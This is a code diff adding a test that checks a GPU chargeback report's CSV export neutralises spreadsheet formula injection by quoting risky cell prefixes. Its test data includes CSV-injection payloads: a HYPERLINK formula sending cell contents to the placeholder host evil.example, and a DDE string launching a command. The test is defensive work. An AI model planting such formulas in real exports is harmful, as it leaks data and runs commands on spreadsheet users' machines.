@@ -178,3 +178,40 @@ def test_focus_without_the_cost_model_is_refused(tmp_path: Path,
     err = capsys.readouterr().err
     assert "--format focus" in err and "--cost-model" in err and "Traceback" not in err
     assert not (tmp_path / "o").exists() or not any((tmp_path / "o").iterdir())
+
+
+HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
+           "@SUM(1,1)", "-2+3", "\tx")
+
+
+def test_focus_csv_neutralises_formula_cells(tmp_path: Path) -> None:
+    """Team, namespace and pod names that a spreadsheet would run as formulas are written with
+    the chargeback CSV's leading quote (one rule, csvout.neutralise), in every text column."""
+    cm = tmp_path / "cm.yaml"
+    cm.write_text(COST_MODEL % "separate")
+    db = tmp_path / "m.duckdb"
+    con = connect(db)
+    hour = datetime(2026, 10, 1)
+    for i, name in enumerate(HOSTILE):
+        uuid = f"GPU-{i}"
+        con.execute(ins("device_hours") + "VALUES (?, 'node-1', ?, ?, ?, false, 3600, 3600, "
+                    "NULL, NULL)", [hour, str(i), uuid, H100])
+        con.execute(ins("allocation_hours") + "VALUES (?, 'node-1', ?, ?, 'main', ?, '', "
+                    "'nvidia.com/gpu', 'exclusive', 1, 1, 3600, 0, 1800, MAP {'team': ?})",
+                    [hour, name, name, uuid, name])
+    insert_coverage(con, hour, datetime(2026, 10, 1, 1), [])
+    price_period(con, load_cost_model(cm), hour, datetime(2026, 11, 1))
+    con.close()
+    report = make_report(str(db), Month.parse("2026-10"), str(cm), 20, charge_days=True)
+    parsed = list(csv.DictReader(io.StringIO(focus.render_csv(report).decode())))
+    columns = ("ResourceName", "SubAccountId", "SubAccountName", "x_Team", "x_Namespace")
+    teams = [r for r in parsed if r["x_RowKind"] == "team"]
+    assert {r["x_Team"] for r in teams} == {"'" + n for n in HOSTILE}
+    for r in parsed:
+        for col in columns:
+            assert not r[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, r[col])
+    for r in teams:
+        assert {r[c] for c in columns} == {r["x_Team"]}
+    # Parquet is typed data, not a spreadsheet: names there are as they are.
+    table = pq.read_table(io.BytesIO(focus.render_parquet(report)))
+    assert set(HOSTILE) <= set(table.column("x_Team").to_pylist())
